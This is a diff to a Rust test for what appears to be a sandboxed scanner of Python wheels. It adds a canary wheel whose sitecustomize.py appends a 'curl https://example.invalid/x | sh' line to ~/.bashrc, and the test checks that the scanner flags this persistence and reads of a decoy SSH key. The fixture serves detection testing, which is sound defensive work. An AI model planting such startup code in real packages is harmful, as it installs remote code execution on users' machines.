@@ -554,6 +554,9 @@ fn python(args: &[&std::ffi::OsStr]) -> String {
     String::from_utf8(out.stdout).unwrap()
 }
 
+/// The canary wheel's `sitecustomize.py`: at every Python's start it appends to `~/.bashrc`.
+const CANARY_SITECUSTOMIZE: &str = "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl https://example.invalid/x | sh\\n')\n";
+
 /// A wheel `name`-1.0 (`py3-none-any`) made here by `fixtures/wheel.py` (Python's zipfile):
 /// `files` (path, text), console `scripts`, and `requires` added to its `METADATA`.
 fn wheel(dir: &Path, name: &str, files: &[(&str, &str)], scripts: &str, requires: &str) -> PathBuf {
@@ -577,7 +580,7 @@ fn wheel(dir: &Path, name: &str, files: &[(&str, &str)], scripts: &str, requires
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_wheels_pth_code_is_the_install_phase_and_each_behaviour_is_found_in_its_phase() {
+async fn a_wheels_start_code_is_the_install_phase_and_each_behaviour_is_found_in_its_phase() {
     let Some(runsc) = needed("runsc", runsc_path()) else {
         return;
     };
@@ -589,6 +592,8 @@ async fn a_wheels_pth_code_is_the_install_phase_and_each_behaviour_is_found_in_i
         &[
             ("canary_wheel/__init__.py", CANARY_SERVER),
             ("canary_wheel.pth", &pth),
+            // Imported at every Python's start too: it appends to ~/.bashrc.
+            ("sitecustomize.py", CANARY_SITECUSTOMIZE),
         ],
         "canary-wheel = canary_wheel:main",
         "",
@@ -609,21 +614,30 @@ async fn a_wheels_pth_code_is_the_install_phase_and_each_behaviour_is_found_in_i
                 "canary-wheel = canary_wheel:main".into()
             ),
             ("canary_wheel.pth".into(), "pth".into(), CANARY_PTH.into()),
+            (
+                "sitecustomize.py".into(),
+                "sitecustomize".into(),
+                "import sitecustomize".into()
+            ),
         ]
     );
     every_phase_complete_with(
         &report,
         &[
             ("READS_SECRETS", "install"),
+            ("PERSISTENCE", "install"),
             ("INSTALL_BEHAVIOUR", "install"),
-            // The .pth runs again at the server's start, as at every Python's start.
+            // The .pth and sitecustomize run again at the server's start, as at every
+            // Python's start.
             ("READS_SECRETS", "startup"),
+            ("PERSISTENCE", "startup"),
             ("STARTS_PROGRAMS", "startup"),
             ("TOOL_OUTPUT_LEAK", "calls"),
         ],
     );
     let evidence = |code: &str| evidence(&report, code);
     assert_eq!(evidence("READS_SECRETS"), ["/home/decoy/.ssh/id_rsa"]);
+    assert_eq!(evidence("PERSISTENCE"), ["/home/decoy/.bashrc"]);
     assert_eq!(
         evidence("INSTALL_BEHAVIOUR"),
         ["/usr/bin/id"],
